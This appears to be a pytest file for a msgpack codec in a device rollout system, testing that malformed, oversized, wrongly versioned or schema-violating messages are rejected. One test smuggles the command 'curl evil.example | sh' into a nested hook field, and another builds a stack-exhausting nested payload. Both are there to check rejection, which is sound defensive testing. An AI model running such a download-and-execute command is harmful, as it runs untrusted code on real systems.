"""The codec: the only way bytes become a message, and every way it says no."""

from __future__ import annotations

from typing import Any

import annotated_types
import msgpack
import pytest

from schemas import (
    MAX_MESSAGE_BYTES,
    SCHEMA_VERSION,
    ArtifactMeta,
    KeyPair,
    LogHistogram,
    MalformedPayloadError,
    Manifest,
    Reason,
    TrustDoc,
    WireModel,
    decode,
    encode,
    split_artifact,
)
from schemas.envelope import Envelope, Signature

MESSAGE_FIXTURES = [
    "trust_doc",
    "manifest",
    "release",
    "rollout_spec",
    "rollout_status",
    "device_state",
    "health_report",
    "event",
    "telemetry_summary",
]


def _unpack(data: bytes) -> dict[str, Any]:
    raw: dict[str, Any] = msgpack.unpackb(data, raw=False)
    return raw


def _pack(raw: object) -> bytes:
    packed: bytes = msgpack.packb(raw, use_bin_type=True)
    return packed


def _rejection(data: bytes, model: type[WireModel], **kwargs: int) -> Reason:
    with pytest.raises(MalformedPayloadError) as info:
        decode(data, model, **kwargs)
    return info.value.reason


@pytest.mark.parametrize("fixture", MESSAGE_FIXTURES)
def test_every_message_survives_a_round_trip(fixture: str, request: pytest.FixtureRequest) -> None:
    message: WireModel = request.getfixturevalue(fixture)
    data = encode(message)
    decoded = decode(data, type(message))
    assert decoded == message
    # Deterministic: the same message always encodes to the same bytes.
    assert encode(decoded) == data


def test_envelope_artifact_meta_histogram_and_target_round_trip(
    manifest: Manifest, manifest_key: KeyPair
) -> None:
    meta, _ = split_artifact(bytes(range(256)) * 20, name="model.onnx", chunk_size=1024)
    envelope = Envelope(
        kind="manifest",
        body=encode(manifest),
        sigs=(Signature(key=manifest_key.id, sig=manifest_key.sign(b"x")),),
    )
    messages: list[WireModel] = [
        meta,
        envelope,
        LogHistogram.of([0.5, 1.0, 2.0, 1000.0]),
    ]
    for message in messages:
        assert decode(encode(message), type(message)) == message


def test_payload_one_byte_over_the_cap_is_rejected_oversized_before_parsing() -> None:
    # Not even msgpack: the size check has to come first or the parser did the work.
    assert _rejection(b"\xc1" * (MAX_MESSAGE_BYTES + 1), Manifest) is Reason.OVERSIZED


def test_payload_over_a_caller_cap_is_rejected_oversized(manifest: Manifest) -> None:
    data = encode(manifest)
    assert _rejection(data, Manifest, max_bytes=len(data) - 1) is Reason.OVERSIZED
    assert decode(data, Manifest, max_bytes=len(data)) == manifest


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b"\xc1", id="never-used-byte"),
        pytest.param(b'{"v": 1}', id="json"),
        pytest.param(b"\x81\xa1v", id="map-missing-value"),
    ],
)
def test_bytes_that_are_not_msgpack_are_rejected_malformed(data: bytes) -> None:
    assert _rejection(data, Manifest) is Reason.MALFORMED


def test_truncated_message_is_rejected_malformed(manifest: Manifest) -> None:
    data = encode(manifest)
    for cut in (1, len(data) // 2, len(data) - 1):
        assert _rejection(data[:cut], Manifest) is Reason.MALFORMED


def test_message_with_trailing_garbage_is_rejected_malformed(manifest: Manifest) -> None:
    assert _rejection(encode(manifest) + b"\x00", Manifest) is Reason.MALFORMED
    assert _rejection(encode(manifest) * 2, Manifest) is Reason.MALFORMED


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param([1, "trust"], id="list"),
        pytest.param("v", id="str"),
        pytest.param(1, id="int"),
        pytest.param(None, id="nil"),
        pytest.param(b"\x81\xa1v\x01", id="bin-holding-a-map"),
    ],
)
def test_top_level_value_that_is_not_a_map_is_rejected_malformed(raw: object) -> None:
    assert _rejection(_pack(raw), Manifest) is Reason.MALFORMED


def test_map_with_non_string_keys_is_rejected_malformed() -> None:
    assert _rejection(_pack({1: 1, "v": 1}), Manifest) is Reason.MALFORMED


def test_deeply_nested_payload_is_rejected_not_crashing() -> None:
    # A hostile publisher nests arrays until the parser's stack gives out.
    depth = 100_000
    data = b"\x91" * depth + b"\xc0"
    assert _rejection(data, Manifest) is Reason.MALFORMED


@pytest.mark.parametrize("version", [0, 2, SCHEMA_VERSION + 100, -1, "1", None])
def test_message_of_another_schema_version_is_rejected_unsupported(
    manifest: Manifest, version: object
) -> None:
    raw = _unpack(encode(manifest))
    raw["v"] = version
    assert _rejection(_pack(raw), Manifest) is Reason.UNSUPPORTED_VERSION


def test_message_without_a_schema_version_is_rejected_unsupported(manifest: Manifest) -> None:
    raw = _unpack(encode(manifest))
    del raw["v"]
    assert _rejection(_pack(raw), Manifest) is Reason.UNSUPPORTED_VERSION


def test_message_with_an_extra_field_is_rejected_schema(manifest: Manifest) -> None:
    raw = _unpack(encode(manifest))
    raw["force_install"] = True
    assert _rejection(_pack(raw), Manifest) is Reason.SCHEMA


def test_extra_field_smuggled_into_a_nested_message_is_rejected_schema(
    manifest: Manifest,
) -> None:
    raw = _unpack(encode(manifest))
    raw["stable"]["runtime"]["pre_load_hook"] = "curl evil.example | sh"
    assert _rejection(_pack(raw), Manifest) is Reason.SCHEMA


@pytest.mark.parametrize(
    ("field", "value"),
    [
        pytest.param("seq", "five", id="seq-str"),
        pytest.param("seq", [5], id="seq-list"),
        pytest.param("seq", 5.5, id="seq-fraction"),
        pytest.param("seq", 0, id="seq-zero"),
        pytest.param("hw_class", 7, id="class-int"),
        pytest.param("hw_class", "../other", id="class-path"),
        pytest.param("expires_at", b"soon", id="expiry-bytes"),
        pytest.param("stable", "resnet", id="stable-str"),
    ],
)
def test_field_of_the_wrong_type_or_range_is_rejected_schema(
    manifest: Manifest, field: str, value: object
) -> None:
    raw = _unpack(encode(manifest))
    raw[field] = value
    with pytest.raises(MalformedPayloadError) as info:
        decode(_pack(raw), Manifest)
    assert info.value.reason is Reason.SCHEMA
    assert field in info.value.detail


def test_missing_required_field_is_rejected_schema(manifest: Manifest) -> None:
    raw = _unpack(encode(manifest))
    del raw["expires_at"]
    assert _rejection(_pack(raw), Manifest) is Reason.SCHEMA


def test_bytes_of_one_message_type_decoded_as_another_are_rejected_schema(
    manifest: Manifest, trust_doc: TrustDoc
) -> None:
    assert _rejection(encode(trust_doc), Manifest) is Reason.SCHEMA
    assert _rejection(encode(manifest), TrustDoc) is Reason.SCHEMA


def test_artifact_meta_at_its_schema_maximum_fits_the_wire_cap() -> None:
    # ArtifactMeta admits up to max_length chunk hashes, yet decode() refuses anything
    # above MAX_MESSAGE_BYTES: the operator could publish a meta every agent rejects.
    (max_chunks,) = (
        m.max_length
        for m in ArtifactMeta.model_fields["chunks"].metadata
        if isinstance(m, annotated_types.MaxLen)
    )
    digest = "ab" * 32
    meta = ArtifactMeta(
        sha256=digest,
        size=max_chunks * 1024,
        chunk_size=1024,
        chunks=tuple(digest for _ in range(max_chunks)),
        name="m" * 128,
    )
    assert decode(encode(meta), ArtifactMeta) == meta
